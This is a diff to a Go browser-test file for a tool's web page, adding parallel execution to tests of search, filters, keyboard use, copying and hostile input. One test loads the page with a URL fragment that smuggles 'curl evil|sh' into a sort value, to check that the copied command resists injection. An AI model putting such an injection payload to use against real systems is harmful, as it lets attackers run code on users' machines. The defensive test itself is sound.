@@ -20,6 +20,7 @@ import (
 
 // TestPageSearch: the page ranks 200 queries as the command does.
 func TestPageSearch(t *testing.T) {
+	t.Parallel()
 	b := open(t, pageFile(t), 1200, 900)
 	var queries []string
 	names := strings.Fields(strings.ToLower(runIn(nil, nil, "list", "-o", "name").stdout))
@@ -57,6 +58,7 @@ func TestPageSearch(t *testing.T) {
 // TestPageFilters: every value of every filter lets pass what it does at a
 // prompt, the counts beside them are right, and a day shows what --as-of does.
 func TestPageFilters(t *testing.T) {
+	t.Parallel()
 	b := open(t, pageFile(t, "--kind", "all"), 1200, 900)
 	values := eval[map[string][]string](b, "Object.fromEntries(data.filters.map(f => [f.name, (f.values || []).map(v => v.name)]))")
 	for name, more := range map[string][]string{"name": {"kube*", "?pen*"}, "text": {"service mesh"}, "related-to": {"Istio"}, "accepted-at": {"2020", "2020-05..2021-02", "2024..", "..2018"},
@@ -98,6 +100,7 @@ func TestPageFilters(t *testing.T) {
 
 // TestPageKeyboard goes through the page without a pointer.
 func TestPageKeyboard(t *testing.T) {
+	t.Parallel()
 	b := open(t, pageFile(t), 1200, 900)
 	b.key("\t")
 	want(b, "document.activeElement.className", "skip")
@@ -137,6 +140,7 @@ func TestPageKeyboard(t *testing.T) {
 
 // TestPageSlider plays the landscape.
 func TestPageSlider(t *testing.T) {
+	t.Parallel()
 	b := open(t, pageFile(t, "--maturity", "hosted"), 1200, 900)
 	b.do(chromedp.Click(chromedp.CSS("#play")))
 	b.await("state.day > '2017'")
@@ -164,6 +168,7 @@ func TestPageSlider(t *testing.T) {
 
 // TestPageCopies: what is copied is what the command writes.
 func TestPageCopies(t *testing.T) {
+	t.Parallel()
 	b := open(t, pageFile(t, "--kind", "all"), 1200, 900)
 	for _, format := range []string{"csv", "json", "markdown"} {
 		expected := runIn(nil, nil, "list", "--kind", "all", "-o", format).stdout
@@ -188,6 +193,7 @@ func TestPageCopies(t *testing.T) {
 // TestPageHostileAddress: what an address chooses, which anyone may have written,
 // neither puts a command on a prompt nor takes long.
 func TestPageHostileAddress(t *testing.T) {
+	t.Parallel()
 	file := pageFile(t)
 	b := open(t, file+"#sort=name%3Bcurl%20evil%7Csh%20%23", 1200, 900)
 	want(b, "copies.command()", "landscope list\n")
@@ -214,6 +220,7 @@ func TestPageHostileAddress(t *testing.T) {
 // TestPageLooks: the page in the dark, on paper and on a telephone; an item's
 // details; no breach of the rules that axe-core knows.
 func TestPageLooks(t *testing.T) {
+	t.Parallel()
 	axe := os.Getenv("LANDSCOPE_AXE")
 	script, err := os.ReadFile(axe)
 	if err != nil {
@@ -231,6 +238,7 @@ func TestPageLooks(t *testing.T) {
 		{"item", "#item=orchestration-management--service-mesh--istio", "light", 390}, {"dark item", "#item=orchestration-management--service-mesh--istio", "dark", 1440}, {"none", "#q=zzzzzzzz", "light", 1440}, {"past", "#as-of=2018-02-20&maturity=hosted", "light", 1440},
 	} {
 		t.Run(look.name, func(t *testing.T) {
+			t.Parallel()
 			b := open(t, address+look.hash, look.width, 900)
 			b.look("", "prefers-color-scheme:"+look.scheme, "prefers-reduced-motion:reduce")
 			back := map[string]string{"light": "rgb(255, 255, 255)", "dark": "rgb(17, 24, 39)"}[look.scheme]
@@ -260,6 +268,7 @@ func TestPageLooks(t *testing.T) {
 
 // TestPageHostile: whatever the names of a landscape are, they are text.
 func TestPageHostile(t *testing.T) {
+	t.Parallel()
 	address := pageFile(t, "--data", "testdata/hostile.yml", "--kind", "all")
 	b := open(t, address, 800, 600)
 	want(b, "document.scripts.length", 2)
@@ -285,6 +294,7 @@ func TestPageHostile(t *testing.T) {
 
 // TestPageOfLittle: no items, and items of which nothing is known, are a page too.
 func TestPageOfLittle(t *testing.T) {
+	t.Parallel()
 	want(open(t, pageFile(t, "--name", "zz*"), 800, 600), "$('found').textContent + $('none').hidden", "0 of 0 itemsfalse")
 	file := filepath.Join(t.TempDir(), "bare.yml")
 	if err := os.WriteFile(file, []byte("landscape:\n- category:\n  name: A\n  subcategories:\n  - subcategory:\n    name: B\n    items:\n    - item:\n      name: X\n"), 0o600); err != nil {
